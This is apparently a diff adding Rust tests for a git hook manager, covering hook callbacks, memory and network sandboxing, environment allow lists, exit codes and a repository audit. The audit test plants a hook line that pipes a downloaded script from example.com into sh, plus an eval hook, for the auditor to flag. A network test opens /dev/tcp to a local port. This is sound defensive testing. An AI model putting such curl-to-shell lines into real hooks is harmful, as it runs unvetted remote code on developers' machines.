+        fs::write(root.join("staged.txt"), "fixed\n").unwrap();
+        assert!(HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .is_err());
+        assert_eq!(
+            fs::read_to_string(root.join("staged.txt")).unwrap(),
+            "fixed\n"
+        );
+        assert_eq!(
+            fs::read_to_string(root.join("unstaged.txt")).unwrap(),
+            "TODO lint error\n"
+        );
+    }
+
+    #[test]
+    fn test_args_substituted() {
+        let args = ["/repo/.git/COMMIT_EDITMSG", "it's"].map(String::from);
+        assert_eq!(
+            args_substituted("commitlint --edit {msg_file}", &args),
+            "commitlint --edit /repo/.git/COMMIT_EDITMSG"
+        );
+        assert_eq!(
+            args_substituted("echo {args} {{args}} {files}", &args),
+            "echo /repo/.git/COMMIT_EDITMSG 'it'\\''s' {args} {files}"
+        );
+        assert_eq!(args_substituted("check {msg_file}", &[]), "check ");
+
+        assert_eq!(
+            args_appended("commitlint --edit", &args),
+            "commitlint --edit /repo/.git/COMMIT_EDITMSG 'it'\\''s'"
+        );
+        for command in ["cp \"$1\" x", "echo ${2}", "run \"$@\"", "[ $# -gt 0 ]"] {
+            assert!(uses_positional_args(command), "{command}");
         }
+        assert!(!uses_positional_args("cargo test; echo $HOME $$"));
+    }
 
-        Ok(())
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_pre_and_post_hook_commands() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let config = |hook: &str, settings: &str| {
+            GitHooksConfig::parse_toml(&format!(
+                "pre-commit = \"{hook}\"\n\n[settings]\n\
+                 pre-hook-command = \"echo pre $HOOKMASTER_HOOK_NAME >> log.txt\"\n\
+                 post-hook-command = \"echo post $HOOKMASTER_HOOK_NAME $HOOKMASTER_EXIT_CODE >> log.txt\"\n\
+                 {settings}"
+            ))
+            .unwrap()
+        };
+        let hook_manager = HookManager::new();
+        let run = |config: &GitHooksConfig| {
+            let _ = fs::remove_file(root.join("log.txt"));
+            let result = hook_manager.run_configured_hook(config, root, "pre-commit", &[]);
+            (result, fs::read_to_string(root.join("log.txt")).unwrap())
+        };
+
+        let (result, log) = run(&config("echo hook >> log.txt", ""));
+        result.unwrap();
+        assert_eq!(log, "pre pre-commit\nhook\npost pre-commit 0\n");
+
+        let (result, log) = run(&config("exit 3", ""));
+        assert_eq!(result.unwrap_err().exit_code(), Some(3));
+        assert_eq!(log, "pre pre-commit\npost pre-commit 3\n");
+
+        // Failing callbacks are only warnings unless the settings say otherwise
+        let failing = |settings: &str| {
+            let mut config = config("echo hook >> log.txt", settings);
+            config.settings.pre_hook_command = Some("echo pre >> log.txt; exit 1".to_string());
+            config.settings.post_hook_command = Some("echo post >> log.txt; exit 2".to_string());
+            config
+        };
+        let (result, log) = run(&failing(""));
+        result.unwrap();
+        assert_eq!(log, "pre\nhook\npost\n");
+
+        let (result, log) = run(&failing("pre-hook-fail-aborts = true"));
+        assert_eq!(
+            result.unwrap_err().to_string(),
+            "pre-hook-command of hook 'pre-commit' failed with exit code: 1"
+        );
+        assert_eq!(log, "pre\n");
+
+        let (result, log) = run(&failing("post-hook-fail-aborts = true"));
+        assert_eq!(
+            result.unwrap_err().to_string(),
+            "post-hook-command of hook 'pre-commit' failed with exit code: 2"
+        );
+        assert_eq!(log, "pre\nhook\npost\n");
     }
 
-    /// Run a specific hook command
-    pub fn run_hook(&self, hook_name: &str, _args: &[String]) -> Result<()> {
-        // Load configuration
-        let config = GitHooksConfig::load().with_context(|| "Failed to load githooks.toml")?;
+    #[test]
+    #[cfg(target_os = "linux")]
+    fn test_run_hook_over_memory_limit_is_killed() {
+        let hog = "x=$(head -c 200000000 /dev/zero | tr -c a a); echo ${#x}";
+        let config = GitHooksConfig::parse_toml(&format!(
+            "[hooks.pre-push]\nmax-memory-mb = 32\nhog = {{ command = \"{hog}\" }}"
+        ))
+        .unwrap();
+        assert_eq!(config.get_hook_limits("pre-push").max_memory_mb, Some(32));
 
-        // Check if hook is defined and active
-        if !config.has_active_hook(hook_name) {
-            return Ok(());
+        // Needs a writable cgroup v2 hierarchy, which CI containers often lack
+        let root = Path::new("/sys/fs/cgroup");
+        if !root.join("cgroup.controllers").is_file()
+            || fs::metadata(root)
+                .map(|metadata| metadata.permissions().readonly())
+                .unwrap_or(true)
+        {
+            return;
         }
+        assert!(HookManager::new()
+            .run_configured_hook(&config, Path::new("."), "pre-push", &[])
+            .is_err());
+    }
 
-        let command = config
-            .get_hook_command(hook_name)
-            .ok_or_else(|| anyhow::anyhow!("Hook '{}' not found in configuration", hook_name))?;
+    #[test]
+    #[cfg(target_os = "linux")]
+    fn test_run_hook_deny_network() {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let connect = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'");
+        let hook_manager = HookManager::new();
 
-        // Execute the command
-        let exit_status = if cfg!(target_os = "windows") {
-            Command::new("cmd").args(["/C", command]).status()
-        } else {
-            Command::new("sh").args(["-c", command]).status()
+        let config = GitHooksConfig::parse_toml(&format!("pre-push = \"{connect}\"\n")).unwrap();
+        hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-push", &[])
+            .unwrap();
+
+        // Needs unprivileged user namespaces, which some CI containers lack
+        let isolated = Command::new("unshare")
+            .args(["--map-root-user", "--net", "true"])
+            .status()
+            .is_ok_and(|status| status.success());
+        if !isolated {
+            return;
+        }
+        let config = GitHooksConfig::parse_toml(&format!(
+            "[hooks.pre-push]\ndeny-network = true\nconnect = {{ command = \"{connect}\" }}"
+        ))
+        .unwrap();
+        assert!(hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-push", &[])
+            .is_err());
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_env_allow_list() {
+        std::env::set_var("HOOKMASTER_TEST_SECRET", "secret");
+        std::env::set_var("HOOKMASTER_TEST_VISIBLE", "visible");
+        let check = r#"check = { command = "test -z \"$HOOKMASTER_TEST_SECRET\" && test \"$HOOKMASTER_TEST_VISIBLE\" = visible" }"#;
+        let hook_manager = HookManager::new();
+
+        let config = GitHooksConfig::parse_toml(&format!(
+            "[hooks.pre-commit]\nenv-allow = [\"PATH\", \"HOOKMASTER_TEST_VISIBLE\"]\n{check}"
+        ))
+        .unwrap();
+        assert_eq!(
+            config.get_hook_env_policy("pre-commit"),
+            EnvPolicy::Allow(vec![
+                "PATH".to_string(),
+                "HOOKMASTER_TEST_VISIBLE".to_string()
+            ])
+        );
+        hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-commit", &[])
+            .unwrap();
+
+        // Globs pick variables by prefix
+        let config = GitHooksConfig::parse_toml(&format!(
+            "[hooks.pre-commit]\nenv-allow = [\"PATH\", \"HOOKMASTER_TEST_V*\"]\n{check}"
+        ))
+        .unwrap();
+        hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-commit", &[])
+            .unwrap();
+        assert_eq!(
+            environment_names(&config.get_hook_env_policy("pre-commit"), &Vec::new())
+                .iter()
+                .filter(|name| name.starts_with("HOOKMASTER_TEST_"))
+                .collect::<Vec<_>>(),
+            ["HOOKMASTER_TEST_VISIBLE"]
+        );
+
+        // Without the allow list the secret is passed on
+        let config = GitHooksConfig::parse_toml(&format!("[hooks.pre-commit]\n{check}")).unwrap();
+        assert_eq!(config.get_hook_env_policy("pre-commit"), EnvPolicy::Inherit);
+        assert!(hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-commit", &[])
+            .is_err());
+
+        // With nothing allowed, not even the allowed variable is passed on
+        let config = GitHooksConfig::parse_toml(&format!(
+            "[hooks.pre-commit]\nenv-inherit = false\n{check}"
+        ))
+        .unwrap();
+        assert_eq!(
+            config.get_hook_env_policy("pre-commit"),
+            EnvPolicy::Allow(Vec::new())
+        );
+        assert!(hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-commit", &[])
+            .is_err());
+    }
+
+    #[test]
+    fn test_run_hook_allowed_exit_codes() {
+        let hook_manager = HookManager::new();
+        let run = |toml: &str| {
+            let config = GitHooksConfig::parse_toml(toml).unwrap();
+            hook_manager.run_configured_hook(&config, Path::new("."), "pre-commit", &[])
         };
 
-        match exit_status {
-            Ok(status) => {
-                if !status.success() {
-                    let code = status.code().unwrap_or(-1);
-                    eprintln!("Hook '{hook_name}' failed with exit code: {code}");
-                    return Err(anyhow::anyhow!(
-                        "Hook '{}' failed with exit code: {}",
-                        hook_name,
-                        code
-                    ));
-                }
-            }
-            Err(e) => {
-                eprintln!("Failed to execute hook '{hook_name}': {e}");
-                return Err(anyhow::anyhow!(
-                    "Failed to execute hook '{}': {}",
-                    hook_name,
-                    e
-                ));
+        assert!(run(r#"pre-commit = { command = "exit 2", allow_exit_codes = [2, 3] }"#).is_ok());
+        assert!(run(r#"pre-commit = { command = "exit 3", allow_exit_codes = [2, 3] }"#).is_ok());
+        match run(r#"pre-commit = { command = "exit 1", allow_exit_codes = [2, 3] }"#) {
+            Err(HookError::ExecutionFailed { exit_code, .. }) => assert_eq!(exit_code, 1),
+            other => panic!("Expected ExecutionFailed, got {other:?}"),
+        }
+        assert!(run(r#"pre-commit = { command = "exit 7", allow_failure = true }"#).is_ok());
+
+        // A command passing with warnings doesn't fail the hook, a genuine failure does
+        let result = run(r#"
+[hooks.pre-commit]
+parallel = true
+lint = { command = "exit 2", allow_exit_codes = [2] }
+test = { command = "exit 1", allow_exit_codes = [2] }
+"#);
+        match result {
+            Err(HookError::CommandsFailed { commands, .. }) => assert_eq!(commands, vec!["test"]),
+            other => panic!("Expected CommandsFailed, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn test_run_hook_success_and_inactive() {
+        let config =
+            GitHooksConfig::parse_toml("pre-commit = \"true\"\ncommit-msg = \"\"").unwrap();
+        let hook_manager = HookManager::new();
+
+        assert!(hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-commit", &[])
+            .is_ok());
+        assert!(hook_manager
+            .run_configured_hook(&config, Path::new("."), "commit-msg", &[])
+            .is_ok());
+        assert!(hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-push", &[])
+            .is_ok());
+    }
+
+    #[test]
+    fn test_run_hook_reports_failed_commands() {
+        let content = r#"
+[hooks.pre-commit.fmt]
+command = "exit 1"
+
+[hooks.pre-commit.clippy]
+command = "true"
+depends_on = ["fmt"]
+"#;
+        let config = GitHooksConfig::parse_toml(content).unwrap();
+        let hook_manager = HookManager::new();
+
+        let result = hook_manager.run_configured_hook(&config, Path::new("."), "pre-commit", &[]);
+        match result {
+            Err(HookError::CommandsFailed { hook, commands }) => {
+                assert_eq!(hook, "pre-commit");
+                assert_eq!(commands, vec!["fmt".to_string()]);
             }
+            other => panic!("Expected CommandsFailed, got {other:?}"),
         }
+    }
 
-        Ok(())
+    #[test]
+    fn test_run_hook_orders_commands_by_before_and_after() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let content = r#"
+[hooks.pre-commit.lint]
+command = "echo lint >> order.txt"
+after = "format"
+
+[hooks.pre-commit.format]
+command = "echo format >> order.txt"
+
+[hooks.pre-commit.generate]
+command = "echo generate >> order.txt"
+before = ["format"]
+"#;
+        let config = GitHooksConfig::parse_toml(content).unwrap();
+        HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("order.txt")).unwrap(),
+            "generate\nformat\nlint\n"
+        );
+
+        let cyclic = "[hooks.pre-commit.a]\ncommand = \"true\"\nbefore = \"b\"\n\n[hooks.pre-commit.b]\ncommand = \"true\"\nbefore = \"a\"\n";
+        let config = GitHooksConfig::parse_toml(cyclic).unwrap();
+        let error = HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap_err();
+        assert!(error.to_string().contains("dependency cycle"), "{error}");
     }
 
-    /// Handle prepare-commit-msg hook
-    pub fn prepare_commit_msg(
-        &self,
-        commit_msg_file: &Path,
-        commit_source: Option<&str>,
-        commit_sha: Option<&str>,
-    ) -> Result<()> {
-        self.commit_processor
-            .process_commit_msg_file(commit_msg_file, commit_source, commit_sha)
-            .with_context(|| "Failed to process commit message")?;
+    #[test]
+    fn test_run_hook_reports_config_error() {
+        let content = r#"
+[hooks.pre-commit.fmt]
+command = "true"
+depends_on = ["missing"]
+"#;
+        let config = GitHooksConfig::parse_toml(content).unwrap();
+        let hook_manager = HookManager::new();
 
-        Ok(())
+        let error = hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-commit", &[])
+            .unwrap_err();
+        assert!(matches!(error, HookError::ConfigError(_)));
+        assert!(error.to_string().contains("unknown command 'missing'"));
+        // A message without causes is printed once
+        assert!(std::error::Error::source(&error).is_none());
     }
-}
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use tempfile::TempDir;
+    #[test]
+    fn test_audit_repo() {
+        let temp_dir = TempDir::new().unwrap();
+        let repo = temp_dir.path();
+        let hook_manager = HookManager::new();
+        hook_manager
+            .install_hooks_to_repo(
+                repo,
+                None,
+                &mut TokenBucket::unlimited(),
+                ExecutionMode::Live,
+            )
+            .unwrap();
+        assert!(hook_manager.audit_repo(repo).unwrap().is_empty());
+
+        let hooks_dir = repo.join(".git/hooks");
+        fs::write(
+            hooks_dir.join("pre-push"),
+            "#!/bin/sh\ncurl -s https://example.com/x.sh | sh\nhookmaster run pre-push \"$@\"\n",
+        )
+        .unwrap();
+        // Hooks not managed by hookmaster are left alone
+        fs::write(hooks_dir.join("post-merge"), "#!/bin/sh\neval \"$1\"\n").unwrap();
+        fs::write(
+            repo.join("hookmaster.toml"),
+            "[hooks.pre-commit.setup]\ncommand = \"export PATH=/tmp:$PATH\"\n",
+        )
+        .unwrap();
+
+        let findings: Vec<String> = hook_manager
+            .audit_repo(repo)
+            .unwrap()
+            .iter()
+            .map(|f| format!("{} {}: {}", f.severity, f.hook, f.description))
+            .collect();
+        assert_eq!(
+            findings,
+            vec![
+                "low pre-push: script differs from the one hookmaster installs",
+                "high pre-push: runs code downloaded at runtime (curl piped to sh)",
+                "high pre-commit/setup: adds a world-writable directory to PATH (/tmp)",
+            ]
+        );
+    }
 
     #[test]
-    fn test_init_repository() {
+    fn test_hook_error_display() {
+        let error = HookError::NotFound("pre-commit".to_string());
+        assert_eq!(
+            error.to_string(),
+            "Hook 'pre-commit' not found in configuration"
+        );
+
+        let error = HookError::ConfigError(
+            anyhow::anyhow!("Unknown key 'x' on line 2").context("Failed to parse hookmaster.toml"),
+        );
+        assert_eq!(error.to_string(), "Failed to parse hookmaster.toml");
+        assert_eq!(
+            std::error::Error::source(&error).map(|cause| cause.to_string()),
+            Some("Unknown key 'x' on line 2".to_string())
+        );
+
+        let error = HookError::SpawnFailed {
+            hook: "pre-push".to_string(),
+            source: io::Error::new(io::ErrorKind::NotFound, "no shell"),
+        };
+        assert_eq!(
+            error.to_string(),
+            "Failed to execute hook 'pre-push': no shell"
+        );
+        assert!(std::error::Error::source(&error).is_some());
+
+        // Converts into anyhow::Error for the top level
+        let converted: anyhow::Error = HookError::ExecutionFailed {
+            hook: "pre-commit".to_string(),
+            exit_code: 1,
+        }
+        .into();
+        assert_eq!(
+            converted.to_string(),
+            "Hook 'pre-commit' failed with exit code: 1"
+        );
+    }
+
+    /// Create a git repository with packages `a`, `b` and `c`, where only
+    /// `a` and `c` have staged changes
+    fn create_monorepo_fixture() -> TempDir {
         use std::fs;
 
         let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        for package in ["a", "b", "c"] {
+            let dir = root.join("packages").join(package);
+            fs::create_dir_all(&dir).unwrap();
+            fs::write(dir.join("index.js"), "module.exports = {};\n").unwrap();
+        }
 
-        // Test creating sample config in a specific path (not current dir)
-        let config_path = temp_dir.path().join("githooks.toml");
-        let sample_config = GitHooksConfig::create_sample();
-        let result = sample_config.save_to_file(&config_path);
+        let git = |args: &[&str]| {
+            let status = Command::new("git")
+                .arg("-C")
+                .arg(root)
+                .args(args)
+                .output()
+                .unwrap()
+                .status;
+            assert!(status.success(), "git {args:?} failed");
+        };
+        git(&["init", "-q"]);
+        git(&["add", "packages/a", "packages/c"]);
 
-        assert!(result.is_ok());
-        assert!(config_path.exists());
+        temp_dir
+    }
 
-        // Verify the content
-        let content = fs::read_to_string(&config_path).unwrap();
-        assert!(content.contains("pre-commit"));
-        assert!(content.contains("pre-push"));
+    #[test]
+    fn test_run_hook_fans_out_to_changed_dirs() {
+        use std::fs;
+
+        let temp_dir = create_monorepo_fixture();
+        let root = temp_dir.path();
+        let content = r#"
+[hooks.pre-commit.test]
+command = "echo {dir} > ran.txt"
+foreach_dir = "packages/*/"
+only_changed = true
+"#;
+        let config = GitHooksConfig::parse_toml(content).unwrap();
+        let hook_manager = HookManager::new();
+
+        hook_manager
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+
+        let ran =
+            |package: &str| fs::read_to_string(root.join("packages").join(package).join("ran.txt"));
+        assert_eq!(ran("a").unwrap().trim(), "packages/a");
+        assert!(ran("b").is_err());
+        assert_eq!(ran("c").unwrap().trim(), "packages/c");
     }
 
     #[test]
-    fn test_run_hook_with_empty_config() {
+    fn test_run_hook_with_given_files() {
+        use std::fs;
+
+        let temp_dir = create_monorepo_fixture();
+        let root = temp_dir.path();
+        let content = r#"
+[hooks.pre-commit.test]
+command = "echo {dir} > ran.txt"
+foreach_dir = "packages/*/"
+only_changed = true
+
+[hooks.pre-commit.lint]
+command = "echo {files} > linted.txt"
+"#;
+        let config = GitHooksConfig::parse_toml(content).unwrap();
+        let hook_manager = HookManager::new().with_files(Some(vec![
+            PathBuf::from("packages/b/index.js"),
+            root.join("packages/c/index.js"),
+        ]));
+
+        hook_manager
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+
+        // The given files replace the staged ones in a and c
+        let ran =
+            |package: &str| fs::read_to_string(root.join("packages").join(package).join("ran.txt"));
+        assert!(ran("a").is_err());
+        assert_eq!(ran("b").unwrap().trim(), "packages/b");
+        assert_eq!(ran("c").unwrap().trim(), "packages/c");
+        assert_eq!(
+            fs::read_to_string(root.join("linted.txt")).unwrap().trim(),
+            "packages/b/index.js packages/c/index.js"
+        );
+
+        let hook_manager = HookManager::new().with_files(Some(vec![PathBuf::from("missing.js")]));
+        let err = hook_manager
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap_err();
+        assert!(
+            err.to_string().contains("File not found: missing.js"),
+            "{err}"
+        );
+    }
+
+    #[test]
+    fn test_run_hook_skips_files_placeholder_without_files() {
+        use std::fs;
+
+        // Nothing is staged in a fresh repository
         let temp_dir = TempDir::new().unwrap();
-        let old_dir = std::env::current_dir().unwrap();
+        let root = temp_dir.path();
+        Command::new("git")
+            .arg("-C")
+            .arg(root)
+            .args(["init", "-q"])
+            .output()
+            .unwrap();
+        let config =
+            GitHooksConfig::parse_toml("pre-commit = \"echo {staged_files} > linted.txt\"\n")
+                .unwrap();
 
-        // Change to temp directory
-        std::env::set_current_dir(temp_dir.path()).unwrap();
+        HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert!(!root.join("linted.txt").exists());
+        fs::write(root.join("a b.rs"), "").unwrap();
+        HookManager::new()
+            .with_files(Some(vec![PathBuf::from("a b.rs")]))
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("linted.txt")).unwrap().trim(),
+            "a b.rs"
+        );
+    }
 
-        // Create empty config
-        let config = GitHooksConfig::default();
-        config.save_to_file("githooks.toml").unwrap();
+    #[test]
+    fn test_run_hook_aggregates_fan_out_failures() {
+        let temp_dir = create_monorepo_fixture();
+        let root = temp_dir.path();
+        let content = r#"
+[hooks.pre-commit]
+parallel = true
 
+[hooks.pre-commit.test]
+command = "test {dir} != packages/b"
+foreach_dir = "packages/*/"
+"#;
+        let config = GitHooksConfig::parse_toml(content).unwrap();
         let hook_manager = HookManager::new();
-        let result = hook_manager.run_hook("non-existent", &[]);
-
-        // Restore original directory
-        std::env::set_current_dir(old_dir).unwrap();
 
-        // Should succeed but do nothing for empty/non-existent hooks
-        assert!(result.is_ok());
+        let result = hook_manager.run_configured_hook(&config, root, "pre-commit", &[]);
+        match result {
+            Err(HookError::FanOutFailed {
+                hook,
+                command,
+                dirs,
+            }) => {
+                assert_eq!(hook, "pre-commit");
+                assert_eq!(command, "test");
+                assert_eq!(dirs, vec!["packages/b".to_string()]);
+            }
+            other => panic!("Expected FanOutFailed, got {other:?}"),
+        }
     }
 }